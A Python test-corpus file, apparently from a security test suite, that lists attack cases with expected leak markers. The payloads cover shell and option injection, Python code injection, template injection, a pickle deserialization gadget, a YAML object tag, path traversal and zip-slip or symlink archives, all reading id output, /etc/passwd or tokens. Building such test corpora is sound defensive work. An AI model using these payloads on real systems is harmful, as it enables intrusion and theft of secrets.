"""Attacks on programs, code, files and packages."""

import base64
import io
import pickle
import subprocess
import tarfile
import zipfile

from tests.honest.corpus.cases import Attack

NEEDS = ("redis",)
ID = "uid="
ROOT = "root:x:0"
SITE = "site-secret-27"


class _Call:
    def __reduce__(self) -> object:
        return subprocess.getoutput, ("id",)


def _zip(name: str) -> str:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name), "by-package")
    return base64.b64encode(out.getvalue()).decode()


def _tar(name: str, target: str, kind: bytes) -> str:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        member = tarfile.TarInfo(name)
        member.type, member.linkname = kind, target
        archive.addfile(member)
    return base64.b64encode(out.getvalue()).decode()


PICKLE = pickle.dumps(_Call())
ATTACKS = [
    Attack("shell", "deploy", {"text": "deploy web; id"}, ID),
    Attack("shell", "deploy", {"text": "deploy $(id)"}, ID),
    Attack("shell", "here_document", {"note": "$(id)"}, ID),
    Attack("shell", "here_document", {"note": "x\nEND\nid\ncat <<END"}, ID),
    Attack("shell", "assignment", {"title": "x; id;"}, ID),
    Attack("shell", "test_bracket", {"count": "1 ]]; id; [[ 1"}, ID),
    Attack("shell", "arithmetic", {"n": "a[$(id >&2)]"}, ID),
    Attack("shell", "make_variable", {"name": "$(shell head -1 /etc/passwd)"}, ROOT),
    Attack("shell", "bc", {"sum": "1' ; id ; echo '1"}, ID),
    Attack("options", "rsync_like", {"from": "/etc/passwd", "to": "got"}, ROOT),
    Attack("options", "find_exec", {"filter": "-name a.txt -exec id ;"}, ID),
    Attack("options", "git_grep", {"pattern": "-Oid>&2;id"}, ID),
    Attack("Python code", "less_code", {"cell": "=__import__('os').popen('id').read()"}, ID),
    Attack("Python code", "column_made", {"columns": {"b": "__import__('os').popen('id').read()"}}, ID),
    Attack(
        "Python code", "column_made", {"columns": {"b": "1\nimport os; row['c'] = os.popen('id').read()"}}, ID
    ),
    Attack("Python code", "class_made", {"name": "X", "limit": "open('/etc/passwd').read()"}, ROOT),
    Attack("Python code", "numpy_text", {"f": "__import__('os').popen('id').read()"}, ID),
    Attack("template", "bottle_text", {"title": "{{!__import__('os').popen('id').read()}}"}, ID),
    Attack("template", "bottle_text", {"title": "x\n% import os\n{{os.popen('id').read()}}\n"}, ID),
    Attack("template", "flask_text", {"name": "{{ config['TOKEN'] }}"}, "run-token-314"),
    Attack("template", "flask_text", {"name": "{{ url_for.__globals__['os'].popen('id').read() }}"}, ID),
    Attack("template", "mako_file", {"page": "<%! import os %>${os.popen('id').read()}"}, ID),
    Attack("pickle", "state", {"state": base64.urlsafe_b64encode(PICKLE).decode()}, ID),
    Attack("pickle", "cached", {"key": "x", "value": base64.b64encode(PICKLE).decode()}, ID),
    Attack(
        "YAML", "yaml_tags", {"front": "x\n---\n!!python/object/apply:subprocess.getoutput [id]\n---\n"}, ID
    ),
    Attack("names", "reduced", {"module": "app", "path": "TOKEN"}, "run-token-314"),
    Attack("names", "method_by_name", {"action": "listdir", "argument": "/var/task"}, "app.py"),
    Attack("str.format", "formatter", {"text": "{request.__globals__[TOKEN]}"}, "run-token-314"),
    Attack("path", "site_file", {"parts": ["..", "secret.txt"]}, SITE),
    Attack("path", "site_file", {"parts": ["/etc", "passwd"]}, ROOT),
    Attack("path", "theme", {"theme": "../../etc/passwd"}, ROOT),
    Attack("path", "export", {"folder": "../"}, "secret.txt"),
    Attack("path", "write_log", {"user": "../../evil"}, "evil.log"),
    Attack("archive", "package", {"zip": _zip("../secret.txt")}, "by-package"),
    Attack("archive", "layer", {"tar": _tar("data", "/etc/passwd", tarfile.SYMTYPE)}, ROOT),
    Attack("archive", "layer", {"tar": _tar("data", "../secret.txt", tarfile.SYMTYPE)}, SITE),
]
